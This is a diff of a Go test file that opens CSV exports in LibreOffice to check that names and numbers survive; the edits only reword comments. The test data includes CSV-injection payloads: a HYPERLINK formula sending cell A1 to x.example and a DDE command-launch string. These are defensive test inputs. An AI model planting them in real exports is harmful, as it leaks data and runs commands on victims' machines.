@@ -18,15 +18,14 @@ import (
 	"github.com/idleseat/idleseat/shared/sandbox"
 )
 
-// The variable "awkward" has names of people and departments that cause trouble in spreadsheets. A spreadsheet could
-// evaluate them, split them, or show them in the wrong encoding.
+// The variable "awkward" has names that a spreadsheet could evaluate, split, or show in the wrong encoding.
 var awkward = []string{
 	`=HYPERLINK("http://x.example/?"&A1;"click")`, `+cmd|' /C calc'!A0`, "@SUM(1;1)", "-2+3", "\t=1+1", "a\r=1+1", "\n=1+1", "＝1+1", " =1+1", `"=1+1"`,
 	"Anna;=1+1;x", "Anna,=1+1,x", `Anna"; =1+1;`, "Anna\u2028=1+1", "Åsa Öberg, ÄÖ", "Müller-Groß; Jürgen", "漢字 太郎", "שרה כהן", `Bo "B" O'Brien`,
 }
 
-// TestSpreadsheet opens every CSV file of the command in LibreOffice, with Swedish, German and English settings. In the
-// test, LibreOffice evaluates formulas and detects special numbers, because Excel always does so.
+// TestSpreadsheet opens the CSV files of the command in LibreOffice. LibreOffice evaluates formulas and detects special
+// numbers in this test, because Excel always does so.
 func TestSpreadsheet(t *testing.T) {
 	t.Parallel()
 	if os.Getenv("IDLESEAT_TEST_SPREADSHEET") == "" {
@@ -115,9 +114,9 @@ func (c *spreadCell) value() string {
 	return fmt.Sprintf("%+v", c)
 }
 
-// The method "opened" returns the cells of some CSV files, by the name of the file. The argument "written" is the
-// separator in the files. LibreOffice opens the files with the settings of the locale, and expects the separator
-// "expected".
+// The method "opened" opens CSV files in LibreOffice with the settings of the locale. The argument "written" is the
+// separator in the files. The argument "expected" is the separator that LibreOffice expects. A key of the result is the
+// name of a file.
 func (s *shell) opened(t *testing.T, locale, written, expected string) map[string][][]spreadCell {
 	t.Helper()
 	suffix := map[string]string{",": "-comma", ";": "-semicolon"}[written]
@@ -178,7 +177,6 @@ func spreadCells(t *testing.T, file []byte) (rows [][]spreadCell) {
 	return rows
 }
 
-// sameSheet compares the cells of a spreadsheet with the CSV file: the columns, the texts, the dates and the numbers.
 func (s *shell) sameSheet(t *testing.T, file, separator string, rows [][]spreadCell) {
 	t.Helper()
 	raw, err := os.ReadFile(s.path(file + map[string]string{",": "-comma", ";": "-semicolon"}[separator] + ".csv"))
@@ -223,7 +221,6 @@ func (s *shell) sameSheet(t *testing.T, file, separator string, rows [][]spreadC
 	}
 }
 
-// ofNumbers reports whether the column with this title has numbers.
 func ofNumbers(title string) bool {
 	return title == "monthlySaving" || title != "x_CostCenter" && (strings.HasSuffix(title, "Cost") || strings.HasSuffix(title, "Seats") || strings.HasSuffix(title, "Days"))
 }
